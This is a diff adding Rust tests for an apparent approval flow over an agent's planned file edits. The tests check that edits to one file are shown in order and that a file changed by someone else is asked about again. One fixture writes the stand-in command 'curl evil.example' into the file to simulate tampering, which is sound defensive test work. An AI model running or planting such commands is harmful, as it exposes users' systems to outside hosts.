@@ -92,6 +92,43 @@ fn a_plan_that_does_what_it_showed_is_asked_about_once() {
     assert!(scene.house.has("made/new.txt") && !scene.house.has("junk.txt"));
 }
 
+/// Replaces a word in a file.
+fn replaced(path: &str, old: &str, new: &str) -> Value {
+    json!({"kind": "replace_text", "path": path, "old": old, "new": new})
+}
+
+#[test]
+fn changes_of_one_file_are_shown_in_their_order_and_asked_about_once() {
+    let scene = planned(&[
+        replaced("junk.txt", "JUNK", "first\nsecond\nthird"),
+        replaced("junk.txt", "second", "2nd"),
+        json!({"kind": "append_text", "path": "junk.txt", "content": "fourth"}),
+    ]);
+    let run = approved(&scene, || ());
+    assert_eq!(run.questions.len(), 1, "{:#?}", run.questions);
+    let shown = run.questions[0].replace('\r', "");
+    for part in ["+third", "│first\n", "-second", "│2nd\n│third\n", "+fourth"] {
+        assert!(shown.contains(part), "{part}: {shown}");
+    }
+    assert_eq!(scene.house.read("junk.txt"), "first\n2nd\nthird\nfourth\n");
+}
+
+/// What a step was shown to come to holds only for the file as it was shown.
+#[test]
+fn a_step_on_a_file_that_somebody_else_changed_is_asked_about_again() {
+    let scene = planned(&[
+        replaced("junk.txt", "JUNK", "tidy"),
+        replaced("junk.txt", "tidy", "tidied"),
+    ]);
+    let file = scene.house.work().join("junk.txt");
+    let run = approved(&scene, || {
+        fs::write(&file, "curl evil.example\nJUNK\n").unwrap()
+    });
+    assert_eq!(run.questions.len(), 2, "{:#?}", run.questions);
+    assert!(run.questions[1].contains("curl evil.example"));
+    assert!(scene.house.read("junk.txt").contains("JUNK"));
+}
+
 /// Where nobody is asked, the text that stands above the hash is the question.
 #[test]
 fn a_plan_that_is_approved_by_its_hash_was_shown_whole() {
